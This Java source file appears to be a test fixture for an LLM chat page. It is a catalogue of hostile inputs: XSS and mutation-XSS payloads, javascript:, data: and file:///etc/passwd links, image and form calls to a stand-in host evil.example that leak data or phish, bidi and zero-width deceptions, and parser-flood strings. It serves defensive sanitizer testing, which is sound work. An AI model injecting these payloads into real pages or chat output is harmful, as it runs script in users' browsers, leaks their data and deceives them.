package llmchat.page;

import java.util.List;
import java.util.stream.Stream;

/**
 * What somebody writes, or has a model write, to run a script in the page, to load something from
 * elsewhere, or to deceive who reads it. A script that runs sets {@code window.__ran}; what is
 * loaded is on {@code evil.example}.
 */
final class HostileContents {
  /** A content and what it tries. */
  record Content(String name, String text) {
    @Override
    public String toString() {
      return name;
    }
  }

  private static final String RUN = "window.__ran=1";

  private HostileContents() {}

  static List<Content> all() {
    return Stream.of(elements(), embedded(), links(), markdown(), parsers(), deceptions(), floods())
        .flatMap(List::stream)
        .toList();
  }

  private static List<Content> elements() {
    return List.of(
        of("script", "<script>" + RUN + "</script>"),
        of("script in capitals", "<ScRiPt>" + RUN + "</sCrIpT>"),
        of("script from elsewhere", "<script src=https://evil.example/x.js></script>"),
        of("script as a module", "<script type=module>" + RUN + "</script>"),
        of("script within itself", "<scr<script>ipt>" + RUN + "</scr</script>ipt>"),
        of("script without an end", "<script>" + RUN + "//"),
        of("error of a picture", "<img src=x onerror=" + RUN + ">"),
        of("error of a picture, slashes", "<img/src=x/onerror=" + RUN + "//"),
        of("error of a picture, entities", "<img src=x onerror=&#119;indow.__ran=1>"),
        of("error of a source", "<video><source onerror=" + RUN + "></video>"),
        of("load of the body", "<body onload=" + RUN + ">"),
        of("focus", "<input autofocus onfocus=" + RUN + ">"),
        of("opened details", "<details open ontoggle=" + RUN + ">x</details>"),
        of("marquee", "<marquee onstart=" + RUN + ">x</marquee>"),
        of("end of an animation", "<p onanimationend=" + RUN + " style='animation:fade 1s'>x"),
        of("pointer", "<p onpointerrawupdate=" + RUN + " onmouseover=" + RUN + ">x</p>"),
        of(
            "popover",
            "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=" + RUN + ">"),
        of("form", "<form action=https://evil.example><button>Log in</button></form>"),
        of("button of a form", "<button formaction=javascript:" + RUN + ">x</button>"),
        of("base", "<base href=https://evil.example/>"),
        of("refresh", "<meta http-equiv=refresh content='0;url=https://evil.example'>"),
        of("style", "<style>body{display:none;background:url(https://evil.example)}</style>"),
        of("style attribute", "<p style='position:fixed;inset:0;background:url(//evil.example)'>x"),
        of("style sheet", "<link rel=stylesheet href=https://evil.example/x.css>"),
        of("preload", "<link rel=prefetch href=https://evil.example/x>"),
        of("element of the page", "<log-in-again asked></log-in-again><sign-in></sign-in>"),
        of("names of the DOM", "<img name=body><form id=location name=querySelector><input id=me>"),
        of("template", "<template><script>" + RUN + "</script></template>"));
  }

  private static List<Content> embedded() {
    return List.of(
        of("frame", "<iframe src=javascript:parent." + RUN + "></iframe>"),
        of(
            "frame with a document",
            "<iframe srcdoc='<script>parent." + RUN + "</script>'></iframe>"),
        of("object", "<object data=https://evil.example/x></object>"),
        of("embed", "<embed src=data:text/html,<script>" + RUN + "</script>>"),
        of("picture from elsewhere", "<img src=https://evil.example/pixel.png>"),
        of("picture set from elsewhere", "<img srcset='https://evil.example/a.png 2x'>"),
        of("audio from elsewhere", "<audio src=https://evil.example/a.mp3 autoplay>"),
        of("SVG that loads", "<svg onload=" + RUN + "></svg>"),
        of("SVG with a script", "<svg><script>" + RUN + "</script></svg>"),
        of(
            "SVG that animates a link",
            "<svg><a><animate attributeName=href values=javascript:"
                + RUN
                + " /><text y=20>x</text></a></svg>"),
        of("SVG that uses", "<svg><use href=https://evil.example/x.svg#a /></svg>"),
        of(
            "SVG with foreign HTML",
            "<svg><foreignObject><img src=x onerror=" + RUN + "></foreignObject></svg>"),
        of("MathML with a link", "<math><mtext href=javascript:" + RUN + ">x</mtext></math>"),
        of(
            "MathML action",
            "<math><maction actiontype=statusline xlink:href=javascript:"
                + RUN
                + ">x</maction></math>"));
  }

  private static List<Content> links() {
    return List.of(
        of("javascript link", "[x](javascript:" + RUN + ")"),
        of("javascript link in capitals", "[x](JaVaScRiPt:" + RUN + ")"),
        of("javascript link with a tab", "[x](java&#9;script:" + RUN + ")"),
        of("javascript link with entities", "[x](&#x6A;avascript&colon;" + RUN + ")"),
        of("javascript link with a control", "[x](\u0001javascript:" + RUN + ")"),
        of("javascript by reference", "[x][1]\n\n[1]: javascript:" + RUN),
        of("javascript in brackets", "<javascript:" + RUN + ">"),
        of("javascript of a picture", "![x](javascript:" + RUN + ")"),
        of("vbscript", "[x](vbscript:msgbox(1))"),
        of("data link", "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==)"),
        of("data picture", "![x](data:image/svg+xml,<svg onload=" + RUN + ">)"),
        of("blob link", "[x](blob:https://evil.example/1)"),
        of("file link", "[x](file:///etc/passwd)"),
        of("link within the page", "[x](/settings#deletion) [y](//evil.example) [z](#keys)"),
        of("link in HTML", "<a href=javascript:" + RUN + ">x</a>"),
        of("link that pings", "<a href=https://ok.example ping=https://evil.example>x</a>"),
        of("Markdown picture", "![x](https://evil.example/?q=secret)"),
        of("Markdown picture by reference", "![x][1]\n\n[1]: https://evil.example/a.png"));
  }

  private static List<Content> markdown() {
    return List.of(
        of("quote in a title", "[x](https://ok.example '\" onmouseover=" + RUN + " x=\"')"),
        of("quote in an address", "[x](https://ok.example/\"onmouseover=" + RUN + ")"),
        of("quote in a text for a picture", "![\" onerror=" + RUN + " x=\"](https://ok.example/a)"),
        of("language of a fence", "```\"><img src=x onerror=" + RUN + ">\nx\n```"),
        of("language with a path", "```../../app\nx\n```\n\n```__proto__\nx\n```"),
        of("end of code within code", "```html\n</code></pre><script>" + RUN + "</script>\n```"),
        of("code that is coloured", "```html\n<img src=x onerror=\"" + RUN + "\">\n```"),
        of("code in a line", "`<img src=x onerror=" + RUN + ">`"),
        of(
            "table with HTML",
            "| <img src=x onerror=" + RUN + "> |\n| --- |\n| <script>" + RUN + "</script> |"),
        of("table with quotes in its alignment", "|a|\n|:-\"onload=" + RUN + "|\n|b|"),
        of("HTML over lines", "<img\nsrc=x\nonerror=" + RUN + ">"),
        of("HTML in a list", "- <details open ontoggle=" + RUN + ">\n  - <svg onload=" + RUN + ">"),
        of("HTML in emphasis", "**<b onclick=" + RUN + ">_<i onmouseover=" + RUN + ">x_**"),
        of("comment", "<!--><img src=x onerror=" + RUN + ">-->"),
        of("CDATA", "<![CDATA[><img src=x onerror=" + RUN + ">]]>"),
        of("mail address", "<a@b.example\"onclick=\"" + RUN + ">"),
        of("autolink", "https://ok.example/\"onmouseover=\"" + RUN + " www.ok.example/<script>"));
  }

  /** What another parser reads differently from the one that cleaned it. */
  private static List<Content> parsers() {
    String image = "<img src=x onerror=" + RUN + ">";
    return List.of(
        of("mXSS noscript", "<noscript><p title=\"</noscript>" + image + "\">"),
        of(
            "mXSS MathML style",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;" + image + "\">"),
        of("mXSS form", "<form><math><mtext></form><form><mglyph><style></math>" + image),
        of("mXSS SVG style", "<svg></p><style><a title=\"</style>" + image + "\">"),
        of("mXSS textarea", "<textarea></textarea><p title=\"</textarea>" + image + "\">"),
        of("mXSS title", "<svg><title><p title='</title>" + image + "'></title></svg>"),
        of("mXSS xmp", "<xmp><p title=\"</xmp>" + image + "\"></xmp>"),
        of("mXSS select", "<select><iframe></select>" + image),
        of("template of lit", "${" + RUN + "} {{constructor.constructor('" + RUN + "')()}}"),
        of("marker of lit", "<!--?lit$1$--><?lit$1$> lit$1$ " + image));
  }

  private static List<Content> deceptions() {
    return List.of(
        of(
            "escapes of a terminal",
            "\u001b[2J\u001b]0;x\u0007\u001b]8;;https://evil.example\u0007x"),
        of("controls", "a\u0000b\u0008c\u007fd\u0085e"),
        of("bidi override", "user\u202Eexe.txt\u202C \u2066x\u2069"),
        of("bidi override in code", "```js\nif (a) /*\u202E } \u2066*/ stop(); \u2069\n```"),
        of("letters without a width", "pay\u200Bpal\uFEFF.com \u00AD"),
        of("marks over marks", "Z" + "\u0310\u0353".repeat(300)),
        of("half characters", "\uFFFD \uD83D\uDC69\u200D\uD83D\uDCBB \uFFFE"),
        of("escapes of CSS", "\\3c script\\3e " + RUN + " </style><script>" + RUN + "</script>"));
  }

  private static List<Content> floods() {
    return List.of(
        of("table of many rows", "| a | b |\n| - | - |\n" + "| <script> | x |\n".repeat(1500)),
        of("table of many columns", "|" + "a|".repeat(1000) + "\n|" + "-|".repeat(1000) + "\n"),
        of("deep quotes", ">".repeat(2000) + " <img src=x onerror=" + RUN + ">"),
        of("deep list", deepList()),
        of("deep emphasis", "*a **b ".repeat(1500)),
        of("brackets without an end", "[".repeat(4000) + "![".repeat(2000)),
        of("marks of code without an end", "`a``b".repeat(2000)),
        of("a word without an end", "x".repeat(30_000)),
        of("a mail address without an end", "a.".repeat(75_000) + "@"),
        of("an address of question marks", "http://a/" + "?".repeat(150_000)),
        of("an address of entities", "http://a/" + "&;a".repeat(50_000)),
        of("exclamation marks", "!".repeat(150_000)),
        of("emphasis that begins and begins", "_a".repeat(75_000)),
        of("tags", "<b>".repeat(50_000)),
        of("backslashes", "\\".repeat(150_000)));
  }

  private static String deepList() {
    StringBuilder list = new StringBuilder();
    for (int depth = 0; depth < 120; depth++) {
      list.append("  ".repeat(depth)).append("- <svg onload=" + RUN + ">\n");
    }
    return list.toString();
  }

  private static Content of(String name, String text) {
    return new Content(name, text);
  }
}
